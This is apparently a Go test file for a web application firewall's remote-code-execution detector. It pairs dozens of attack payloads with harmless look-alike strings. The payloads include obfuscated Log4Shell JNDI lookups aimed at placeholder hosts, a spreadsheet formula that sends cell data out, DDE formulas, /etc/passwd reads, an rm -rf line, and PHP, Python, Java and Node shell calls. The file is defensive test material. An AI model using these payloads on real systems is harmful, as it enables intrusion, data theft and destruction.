package code

import (
	"testing"

	"kongwaf/detect"
	"kongwaf/detect/attack/languagetest"
)

var language = languagetest.Language{Class: detect.ClassRCE, Possible: Possible, Judge: Judge, Rows: rows}

func TestLanguage(t *testing.T)   { language.Test(t) }
func FuzzJudge(f *testing.F)      { language.Fuzz(f) }
func BenchmarkJudge(b *testing.B) { language.Benchmark(b) }

var rows = []languagetest.Row{
	{Shows: "function by a constructor", Attack: "this.constructor.constructor('return process')()", Twin: "this.constructor.constructor('a name')"},
	{Shows: "variable that holds a function's name", Attack: `$q="system";$q("id");`, Twin: `$q="total";$q("id");`},
	{Shows: "call of what a request names", Attack: "$_GET[a]($_GET[b])", Twin: "$row[a]($b)"},
	{Shows: "function by its index", Attack: "[system][0](id)", Twin: "[table][0](id)"},
	{Shows: "function by a decoder", Attack: `strrev("metsys")("id")`, Twin: `strip("metsys")("id")`},
	{Shows: "callback", Attack: `usort($a,"system")`, Twin: `usort($a,"compare")`},
	{Shows: "Perl's quoted command", Attack: "qx(id)", Twin: "qx(a1)"},
	{Shows: "Perl's pipe", Attack: `open(F,"|id")`, Twin: `open(F,"<id")`},
	{Shows: "system with a text", Attack: `system("echo q")`, Twin: `system("see below")`},
	{Shows: "new Java object in an expression", Attack: `${new java.lang.String("q")}`, Twin: "${new.value}"},
	{Shows: "context of OGNL printed", Attack: "%{#parameters.q}", Twin: "%{q} #parameters"},
	{Shows: "function in brackets", Attack: "(passthru)('id')", Twin: "(see)('this')"},
	{Shows: "function put together of pieces", Attack: "(pass.(th).ru)(whoami);", Twin: "(a.(b).c)(d);"},
	{Shows: "function as a string", Attack: `"sys"."tem"("id")`, Twin: `"the"."end"("of")`},
	{Shows: "printing what a call of constants returns", Attack: "print(sha1(7));", Twin: "print(sha1(name));"},
	{Shows: "printing between two strings", Attack: "'.print(md5(7)).'", Twin: "'.print(len(x)).'"},
	{Shows: "lookup with what nobody can resolve inside", Attack: "${j${${:-q}${:-r}:n}di:ldap://h.example/a}", Twin: "${URL:-ldap://${HOST}/a}"},
	{Shows: "lookup whose brace is spelt out", Attack: "$&lcub;jndi:ldap://h.example/a}", Twin: "$5 &amp; jndi: {x}"},
	{Shows: "module of Node and nothing else", Attack: "import('child_process')", Twin: "import('./routes/home.js')"},
	{Shows: "evaluation in AngularJS", Attack: "$eval('7+7')", Twin: "$evaluation('7')"},
	{Shows: "formula in a later row of a sheet", Attack: "name,sum\nx,=cmd|' /C calc'!A0\n", Twin: "name,sum\nx,'a|b'!\n"},
	{Shows: "code behind lines of a letter", Attack: "Dear all,\nthe garden is lovely.\nCome and see it soon.\nThe roses bloom now.\n__import__('os').system('id')", Twin: "Dear all,\nthe garden is lovely.\nCome and see it soon.\nThe roses bloom now.\nimport the system"},
	{Shows: "from an object to all classes", Attack: "[].__class__.__base__.__subclasses__()", Twin: "type(self).__class__.__name__"},
	{Shows: "a lookup that reaches out", Attack: "${dns:address|x.example.net}", Twin: "${dns:-none}"},
	{Shows: "a process by its class", Attack: "Process.Start(\"cmd.exe\",\"/c whoami\")", Twin: "server.start(\"/var/run\")"},
	{Shows: "properties in brackets", Attack: "class['module']['classLoader']['x']", Twin: "class['a']['b']"},
	{Shows: "PHP block", Attack: "<?php system('id'); ?>", Twin: "<?xml version=\"1.0\"?><a/>"},
	{Shows: "short PHP block", Attack: "<?=`id`?>", Twin: "a <? b", Suspicious: true},
	{Shows: "call that runs a command", Attack: "system('cat /etc/passwd');", Twin: "the system ('the gadget') is new"},
	{Shows: "after a statement", Attack: "1;system($_GET[c]);", Twin: "1; system (2)"},
	{Shows: "information page", Attack: "phpinfo()", Twin: "phpinfo page"},
	{Shows: "evaluation of encoded code", Attack: "eval(base64_decode('cGhwaW5mbygpOw=='))", Twin: "evaluate(base) and decode"},
	{Shows: "assertion of input", Attack: "assert($_POST[x])", Twin: "assert(x > 0)"},
	{Shows: "passthru of encoded text", Attack: "passthru(base64_decode('aWQ='))", Twin: "pass through (see base64)"},
	{Shows: "complex variable", Attack: "${@print(md5(31337))}", Twin: "${name} owes ${amount}"},
	{Shows: "call in a complex variable", Attack: "{${sleep(10)}}", Twin: "{{user.name}}"},
	{Shows: "flag e of a regular expression", Attack: "preg_replace('/x/e','phpinfo()','x')", Twin: "str.replace(/x/e, '')"},
	{Shows: "Python import", Attack: "__import__('os').system('id')", Twin: "import os"},
	{Shows: "Python module", Attack: "os.popen('id').read()", Twin: "os.path.join('a', 'b')"},
	{Shows: "Python compile", Attack: "eval(compile('import os','x','exec'))", Twin: "evaluate and compile (x)"},
	{Shows: "subprocess", Attack: "subprocess.check_output('id',shell=True)", Twin: "the subprocess finished"},
	{Shows: "Node module", Attack: "require('child_process').exec('id')", Twin: "require('lodash')"},
	{Shows: "Node main module", Attack: "global.process.mainModule.require('child_process').execSync('id')", Twin: "process.env.NODE_ENV"},
	{Shows: "Java runtime", Attack: "Runtime.getRuntime().exec(\"id\")", Twin: "a runtime error"},
	{Shows: "SpEL", Attack: "${T(java.lang.Runtime).getRuntime().exec('id')}", Twin: "${java.version}"},
	{Shows: "SpEL by class loader", Attack: "#{''.getClass().forName('java.lang.Runtime')}", Twin: "#{title}"},
	{Shows: "OGNL (Struts)", Attack: "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}", Twin: "100%{a}"},
	{Shows: "OGNL static call", Attack: "(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))", Twin: "(#fff) and user@java.example"},
	{Shows: "OGNL context", Attack: "#context[\"xwork.MethodAccessor.denyMethodExecution\"]=false", Twin: "see #context for more"},
	{Shows: "class loader property (Spring)", Attack: "class.module.classLoader.resources.context.parent.pipeline.first.pattern", Twin: "class.name", IsName: true},
	{Shows: "JNDI lookup", Attack: "${jndi:ldap://192.0.2.1/a}", Twin: "${json:a}"},
	{Shows: "JNDI with nested lookups", Attack: "${${lower:j}${upper:n}${lower:d}i:${lower:r}mi://192.0.2.1/a}", Twin: "${a}${b}${c}"},
	{Shows: "JNDI with defaults", Attack: "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://192.0.2.1/a}", Twin: "${a:-b}"},
	{Shows: "JNDI with environment defaults", Attack: "${${env:X:-j}ndi${env:X:-:}${env:X:-l}dap://192.0.2.1/a}", Twin: "${env:HOME}"},
	{Shows: "Groovy literal", Attack: "\"id\".execute().text", Twin: "\"x\".length()"},
	{Shows: "Lua", Attack: "os.execute('id')", Twin: "os.time()"},
	{Shows: "VBScript", Attack: "CreateObject(\"WScript.Shell\").Run(\"cmd\")", Twin: "document.createElement(\"a\")"},
	{Shows: "classic ASP shell", Attack: "<%eval request(\"cmd\")%>", Twin: "50<%60"},
	{Shows: "JSP", Attack: "<%Runtime.getRuntime().exec(request.getParameter(\"c\"));%>", Twin: "5 <% 6"},
	{Shows: "Ruby", Attack: "Kernel.system('id')", Twin: "kernel 6.1 (stable)"},
	{Shows: "Ruby pipe", Attack: "open('|id')", Twin: "open('file')"},
	{Shows: "ERB", Attack: "<%= `id` %>", Twin: "<%= title %>"},
	{Shows: "Perl", Attack: "';system('id');'", Twin: "it's the system's fault"},
	{Shows: "TeX shell escape", Attack: "\\immediate\\write18{id}", Twin: "\\write it down"},
	{Shows: "TeX input", Attack: "\\input{/etc/passwd}", Twin: "\\input{chapter1}"},
	{Shows: "DDE", Attack: "=cmd|'/C calc'!A0", Twin: "=SUM(A1:A3)"},
	{Shows: "spreadsheet that reaches out", Attack: "=IMPORTXML(CONCAT(\"http://x.example/\",A1),\"//a\")", Twin: "=AVERAGE(B1:B9)"},
	{Shows: "hidden property of process", Attack: "this.constructor.constructor('return process')().mainModule.require('child_process').exec('id')", Twin: "this.constructor.name"},
	{Shows: "source code is data", Attack: "exec('rm -rf /tmp/x')", Twin: "def run(cmd):\n    import os\n    # run the given command and wait\n    r = os.system('ls -la')\n    print('done with it')\n    return r\n", Suspicious: true},
	{Shows: "regular expression", Attack: "${system('id')}", Twin: "re.exec('abc') && a.call(b)"},
	{Shows: "prose about a function", Attack: "exec(\"id\")", Twin: "You should never use eval() on input that you do not trust, said the teacher."},
}
